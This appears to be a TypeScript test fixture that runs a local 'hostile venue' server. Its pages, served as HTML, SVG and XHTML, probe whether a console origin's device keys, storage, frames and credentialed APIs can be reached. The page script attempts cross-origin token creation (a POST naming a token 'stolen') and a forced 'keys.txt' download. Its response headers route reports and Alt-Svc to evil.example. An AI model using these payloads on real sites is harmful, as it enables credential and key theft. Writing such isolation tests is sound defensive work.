// A venue that wants what the console has, and the page it tries to get it with. Each thing that works is asked for at the venue by its name.
import { once } from 'node:events';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Paths of the route table that are forwarded without a bearer. */
export const PAGE = '/v1/markets';
const REPORT = '/v1/trades';
const WORKER = '/v1/insurance';
const DOWNLOAD = '/v1/system/state';
/** Answers with a redirect to the console. */
const LEAD = '/v1/markets/summary';

const ORIGIN_STATE = {
  'Clear-Site-Data': '"cache", "cookies", "storage"',
  'Service-Worker-Allowed': '/',
  'Strict-Transport-Security': 'max-age=63072000; includeSubDomains',
  'Alt-Svc': 'h3="evil.example:443"; ma=86400',
  NEL: '{"report_to":"evil","max_age":86400}',
  'Report-To': '{"group":"evil","max_age":86400,"endpoints":[{"url":"https://evil.example/"}]}',
  'Reporting-Endpoints': 'evil="https://evil.example/"',
  'Accept-CH': 'Sec-CH-UA-Model',
  'Critical-CH': 'Sec-CH-UA-Model',
  'Set-Login': 'logged-out',
};

interface Aim {
  /** The origin of the console; empty: that of the page. */
  readonly target: string;
  /** The path of a picture of the console. */
  readonly picture: string;
}

const script = ({ target, picture }: Aim): string => `
const told = (what) => fetch('${REPORT}?did=' + what).catch(() => undefined);
// What resolves with nothing is seen elsewhere whether it worked.
const attempt = async (what, work) => {
  try { if (await work()) await told(what); } catch {}
  await told('tried-' + what);
};
const stored = () => new Promise((resolve, reject) => {
  const request = indexedDB.open('countersign');
  request.onerror = reject;
  request.onsuccess = () => {
    try {
      const get = request.result.transaction('device').objectStore('device').get('this');
      get.onerror = reject;
      get.onsuccess = () => resolve(get.result);
    } catch (error) {
      reject(error);
    }
  };
});
(async () => {
  await attempt('indexeddb', stored);
  await attempt('device-key', async () => {
    const { key } = await stored();
    return crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key.privateKey, new Uint8Array(1));
  });
  await attempt('localstorage', () => { localStorage.setItem('theme', 'light'); return localStorage.getItem('theme'); });
  await attempt('service-worker-of-all', () => navigator.serviceWorker.register('${WORKER}', { scope: '/' }));
  await attempt('service-worker', () => navigator.serviceWorker.register('${WORKER}'));
  await attempt('worker', () => new Promise((resolve) => {
    const worker = new Worker('${WORKER}');
    worker.onmessage = resolve;
    worker.onerror = () => resolve(false);
  }));
  await attempt('frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = '${target}/console';
    frame.onload = () => resolve(frame.contentDocument?.getElementById('console') || frame.contentDocument?.querySelector('main, noscript'));
    document.body.append(frame);
  }));
  await attempt('api', async () => (await fetch('${target}/countersign/v1/devices', { credentials: 'include' })).ok);
  await attempt('simple-request', async () => {
    await fetch('${target}/v1/account/tokens', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"stolen"}' });
  });
  await attempt('asset', () => new Promise((resolve) => {
    const picture = new Image();
    picture.onload = () => resolve(true);
    picture.onerror = () => resolve(false);
    picture.src = '${target}${picture}';
  }));
  await attempt('channel', () => new BroadcastChannel('countersign').postMessage({ hello: 1 }));
  const link = document.createElement('a');
  link.href = '${DOWNLOAD}';
  link.download = 'keys.txt';
  link.click();
  await told('finished');
})();`;

const html = (aim: Aim) =>
  `<!doctype html><title>of the venue</title><link rel="stylesheet" href="${REPORT}?did=style-sheet"><img src="${REPORT}?did=picture" alt="">
<object data="${REPORT}?did=object"></object><body>the venue<script>${script(aim)}</script>
<script src="${REPORT}?did=script"></script></body>`;

/** What stands in place of a type that browsers show. */
const forms = {
  html: (aim: Aim) => ({ type: 'text/html', body: html(aim) }),
  untyped: (aim: Aim) => ({ type: undefined, body: html(aim) }),
  moving: () => ({
    type: 'text/html',
    body: `<!doctype html><meta http-equiv="refresh" content="0;url=${REPORT}?did=moved">`,
  }),
  /** By the keyboard: the first button is of a form that gets, the second of one that posts, and then there is a link. */
  leading: () => ({
    type: 'text/html',
    body: `<!doctype html><title>of the venue</title><form action="${LEAD}"><input type="hidden" name="did" value="form"><button>Go</button></form>
<form action="${LEAD}?did=post" method="post"><button>Post</button></form><a href="${LEAD}?did=link">Go on</a>`,
  }),
  svg: (aim: Aim) => ({
    type: 'image/svg+xml',
    body: `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script(aim)}]]></script></svg>`,
  }),
  xhtml: (aim: Aim) => ({
    type: 'application/xhtml+xml',
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><body>venue<script><![CDATA[${script(aim)}]]></script></body></html>`,
  }),
} as const;
export type Form = keyof typeof forms;

export interface HostileVenue {
  readonly url: string;
  /** What worked since `serve`, in the order in which it did; `tried-` before what was tried, whatever came of it. */
  readonly did: string[];
  /** Empties `did`. */
  serve(page: Partial<Aim> & { readonly form?: Form; readonly status?: number }): void;
  close(): Promise<void>;
}

export async function startHostileVenue(): Promise<HostileVenue> {
  const did: string[] = [];
  let page: { readonly status: number; readonly type: string | undefined; readonly body: string };
  let leadsTo = '';
  const answer = (response: ServerResponse, status: number, type: string | undefined, body: string) =>
    response.writeHead(status, { ...ORIGIN_STATE, ...(type === undefined ? {} : { 'Content-Type': type }) }).end(body);
  const server = createServer(({ method, url = '' }, response) => {
    const { pathname, searchParams } = new URL(url, 'http://x');
    if (pathname === PAGE) answer(response, page.status, page.type, page.body);
    else if (pathname === WORKER) answer(response, 200, 'text/javascript', 'self.postMessage?.(1)');
    else if (pathname === LEAD) {
      did.push(searchParams.get('did') ?? pathname);
      // With 307 the console itself is posted to.
      response.writeHead(method === 'POST' ? 307 : 302, { ...ORIGIN_STATE, Location: leadsTo }).end();
    } else {
      did.push(pathname === DOWNLOAD ? 'download' : (searchParams.get('did') ?? pathname));
      answer(response, 200, 'application/json', '{}');
    }
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const venue: HostileVenue = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    did,
    serve({ form = 'html', status = 200, target = '', picture = '' }) {
      did.length = 0;
      leadsTo = `${target}/console`;
      page = { status, ...forms[form]({ target, picture }) };
    },
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
  venue.serve({});
  return venue;
}
